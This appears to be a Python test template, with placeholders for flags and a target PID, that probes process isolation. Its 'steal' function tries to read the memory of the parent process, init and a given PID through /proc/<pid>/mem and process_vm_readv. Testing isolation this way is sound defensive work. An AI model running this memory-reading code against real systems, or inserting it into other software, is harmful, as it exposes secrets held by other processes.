# @HONEST@
# @SPILL@
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Span(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def steal():
    found, buffer = [], ctypes.create_string_buffer(64)
    here = Span(ctypes.addressof(buffer), 64)
    for pid in {os.getppid(), 1, @PID@} - {0, os.getpid()}:
        try:
            with open(f"/proc/{pid}/maps") as maps:
                first = int(maps.read(40).split("-")[0], 16)
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                memory.seek(first)
                found.append(f"{pid}: {memory.read(16)!r}")
        except (OSError, ValueError):
            first = id(buffer)
        there = Span(first, 64)
        size = libc.process_vm_readv(
            pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0
        )
        if size > 0:
            found.append(f"{size} bytes of {pid}")
    return "\n".join(found)
